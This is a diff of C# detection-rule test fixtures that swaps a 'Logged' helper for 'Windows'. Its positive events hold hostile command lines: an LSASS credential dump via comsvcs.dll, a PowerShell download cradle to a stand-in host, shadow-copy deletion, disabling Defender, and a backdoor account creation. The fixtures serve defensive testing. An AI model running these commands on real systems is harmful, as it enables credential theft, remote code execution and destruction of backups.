@@ -28,20 +28,9 @@ internal static class DetectionCases
         "ec2_proxy_s3_exfiltration_2020-09-14011940.json",
     ];
 
-    /// <summary><see cref="TestEvents.Windows"/>, which carries the channel its event id is logged to.</summary>
-    public static SecurityEvent Logged(
-        string id,
-        string eventId,
-        string? image = null,
-        string? commandLine = null,
-        string? parent = null,
-        string? message = null,
-        params (string Key, string Value)[] fields) =>
-        Windows(id, eventId, image, commandLine, parent, message: message, fields: fields);
-
     /// <summary>A PowerShell 4104 script block as collectors write it: the text in ScriptBlockText and in the message.</summary>
     public static SecurityEvent ScriptBlock(string id, string script) =>
-        Logged(id, "4104", message: "Creating Scriptblock text (1 of 1):\n" + script, fields: ("ScriptBlockText", script));
+        Windows(id, "4104", message: "Creating Scriptblock text (1 of 1):\n" + script, fields: ("ScriptBlockText", script));
 
 
     /// <summary>
@@ -86,30 +75,30 @@ internal static class DetectionCases
     /// <summary>One event (or burst) each behaviour must be found in.</summary>
     public static List<SecurityEvent> PositiveEvents(string rule) => rule switch
     {
-        "lsass-minidump-comsvcs" => [Logged("p", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 756 C:\Users\x\lsass.dmp full")],
-        "lsass-process-access" => [Logged("p", "10", @"C:\Windows\System32\rundll32.exe", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1410")])],
-        "lsass-object-read" => [Logged("p", "4663", @"C:\Windows\System32\rundll32.exe", fields: ("ObjectName", @"\Device\HarddiskVolume2\Windows\System32\lsass.exe"))],
+        "lsass-minidump-comsvcs" => [Windows("p", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 756 C:\Users\x\lsass.dmp full")],
+        "lsass-process-access" => [Windows("p", "10", @"C:\Windows\System32\rundll32.exe", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1410")])],
+        "lsass-object-read" => [Windows("p", "4663", @"C:\Windows\System32\rundll32.exe", fields: ("ObjectName", @"\Device\HarddiskVolume2\Windows\System32\lsass.exe"))],
         "powershell-encoded-command" or "powershell-encoded-command-obfuscation" =>
-            [Logged("p", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell -noP -sta -w 1 -enc {Encoded}")],
+            [Windows("p", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell -noP -sta -w 1 -enc {Encoded}")],
         "powershell-download-cradle" => [ScriptBlock("p", "IEX (New-Object Net.WebClient).DownloadString('http://update-cdn-check.xyz/a.ps1')")],
-        "scheduled-task-created" => [Logged("p", "1", @"C:\Windows\System32\schtasks.exe", @"schtasks /create /tn Updater /tr C:\ProgramData\u.exe /sc onlogon /ru SYSTEM")],
-        "service-installed" => [Logged("p", "7045", fields: ("ServiceName", "Cyb3rWard0g"))],
-        "psexec-service" => [Logged("p", "7045", fields: ("ServiceName", "PSEXESVC"))],
-        "admin-share-service-control" => [Logged("p", "5145", fields: [("ShareName", @"\\*\IPC$"), ("RelativeTargetName", "svcctl")])],
-        "admin-share-access" => [Logged("p", "5140", fields: ("ShareName", @"\\*\ADMIN$"))],
-        "wmi-process-create" => [Logged("p", "1", @"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"")],
-        "winrm-remote-session" => [Logged("p", "1", @"C:\Windows\System32\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")],
-        "rdp-logon" => [Logged("p", "4624", fields: ("LogonType", "10"))],
+        "scheduled-task-created" => [Windows("p", "1", @"C:\Windows\System32\schtasks.exe", @"schtasks /create /tn Updater /tr C:\ProgramData\u.exe /sc onlogon /ru SYSTEM")],
+        "service-installed" => [Windows("p", "7045", fields: ("ServiceName", "Cyb3rWard0g"))],
+        "psexec-service" => [Windows("p", "7045", fields: ("ServiceName", "PSEXESVC"))],
+        "admin-share-service-control" => [Windows("p", "5145", fields: [("ShareName", @"\\*\IPC$"), ("RelativeTargetName", "svcctl")])],
+        "admin-share-access" => [Windows("p", "5140", fields: ("ShareName", @"\\*\ADMIN$"))],
+        "wmi-process-create" => [Windows("p", "1", @"C:\Windows\System32\wbem\WMIC.exe", "wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"")],
+        "winrm-remote-session" => [Windows("p", "1", @"C:\Windows\System32\wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")],
+        "rdp-logon" => [Windows("p", "4624", fields: ("LogonType", "10"))],
         "failed-logon-burst" => Enumerable.Range(0, 6).Select(i => Windows($"p{i}", "4625", minute: i)).ToList(),
-        "discovery-whoami" => [Logged("p", "1", @"C:\Windows\System32\whoami.exe", "whoami /priv")],
-        "discovery-accounts" => [Logged("p", "1", @"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain")],
-        "discovery-domain-trusts" => [Logged("p", "1", @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts")],
-        "discovery-network-config" => [Logged("p", "1", @"C:\Windows\System32\ipconfig.exe", "ipconfig /all")],
-        "discovery-system-info" => [Logged("p", "1", @"C:\Windows\System32\systeminfo.exe", "systeminfo")],
-        "shadow-copy-deletion" => [Logged("p", "1", @"C:\Windows\System32\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")],
-        "event-log-cleared" => [Logged("p", "1102")],
-        "local-account-created" => [Logged("p", "1", @"C:\Windows\System32\net.exe", "net user svc_backup P@ssw0rd1 /add")],
-        "kerberoasting-rc4-ticket" => [Logged("p", "4769", fields: [("TicketEncryptionType", "0x17"), ("ServiceName", "MSSQLSvc")])],
+        "discovery-whoami" => [Windows("p", "1", @"C:\Windows\System32\whoami.exe", "whoami /priv")],
+        "discovery-accounts" => [Windows("p", "1", @"C:\Windows\System32\net.exe", "net group \"Domain Admins\" /domain")],
+        "discovery-domain-trusts" => [Windows("p", "1", @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts")],
+        "discovery-network-config" => [Windows("p", "1", @"C:\Windows\System32\ipconfig.exe", "ipconfig /all")],
+        "discovery-system-info" => [Windows("p", "1", @"C:\Windows\System32\systeminfo.exe", "systeminfo")],
+        "shadow-copy-deletion" => [Windows("p", "1", @"C:\Windows\System32\vssadmin.exe", "vssadmin.exe Delete Shadows /All /Quiet")],
+        "event-log-cleared" => [Windows("p", "1102")],
+        "local-account-created" => [Windows("p", "1", @"C:\Windows\System32\net.exe", "net user svc_backup P@ssw0rd1 /add")],
+        "kerberoasting-rc4-ticket" => [Windows("p", "4769", fields: [("TicketEncryptionType", "0x17"), ("ServiceName", "MSSQLSvc")])],
         "defender-disabled" => [ScriptBlock("p", "Set-MpPreference -DisableRealtimeMonitoring $true")],
         "mass-file-encryption" => Enumerable.Range(0, 30).Select(i => Windows($"p{i}", "11", fields: ("TargetFilename", $@"C:\Shares\Finance\q{i}.xlsx.locked"))).ToList(),
         "cloud-assumed-role-from-outside" => [Of(EventFormats.CloudTrail, "p", "ListBuckets", null,
@@ -126,16 +115,16 @@ internal static class DetectionCases
     /// <summary>Everyday administration no rule may fire on.</summary>
     public static List<SecurityEvent> Benign() =>
     [
-        Logged("b1", "1", @"C:\Windows\System32\cmd.exe", "cmd.exe /c dir C:\\Users"),
-        Logged("b2", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1"),
-        Logged("b3", "4624", fields: ("LogonType", "2")),
-        Logged("b4", "4625"),
-        Logged("b5", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1000")]),
-        Logged("b6", "5140", fields: ("ShareName", @"\\*\IPC$")),
-        Logged("b7", "1", @"C:\Windows\System32\sc.exe", "sc.exe query wuauserv"),
-        Logged("b8", "4769", fields: [("TicketEncryptionType", "0x12"), ("ServiceName", "MSSQLSvc")]),
-        Logged("b9", "11", fields: ("TargetFilename", @"C:\Users\alice\report.docx")),
-        Logged("b9b", "104", fields: ("Channel", PowerShellChannel)),
+        Windows("b1", "1", @"C:\Windows\System32\cmd.exe", "cmd.exe /c dir C:\\Users"),
+        Windows("b2", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1"),
+        Windows("b3", "4624", fields: ("LogonType", "2")),
+        Windows("b4", "4625"),
+        Windows("b5", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1000")]),
+        Windows("b6", "5140", fields: ("ShareName", @"\\*\IPC$")),
+        Windows("b7", "1", @"C:\Windows\System32\sc.exe", "sc.exe query wuauserv"),
+        Windows("b8", "4769", fields: [("TicketEncryptionType", "0x12"), ("ServiceName", "MSSQLSvc")]),
+        Windows("b9", "11", fields: ("TargetFilename", @"C:\Users\alice\report.docx")),
+        Windows("b9b", "104", fields: ("Channel", PowerShellChannel)),
         Of(EventFormats.CloudTrail, "b10", "DescribeInstances", null, ("eventSource", "ec2.amazonaws.com"), ("eventName", "DescribeInstances")),
         Suricata("b11", "ET INFO Observed DNS Query to .cloud TLD", "Misc activity"),
     ];
@@ -143,8 +132,8 @@ internal static class DetectionCases
     /// <summary>Two rules of one technique on two events: Detect reports the technique once with both.</summary>
     public static List<SecurityEvent> SameTechniqueTwice() =>
     [
-        Logged("x1", "1", @"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"),
-        Logged("x2", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1FFFFF")]),
+        Windows("x1", "1", @"C:\Windows\System32\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full"),
+        Windows("x2", "10", fields: [("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1FFFFF")]),
     ];
 
     /// <summary>A Suricata EVE alert with its signature and classification.</summary>
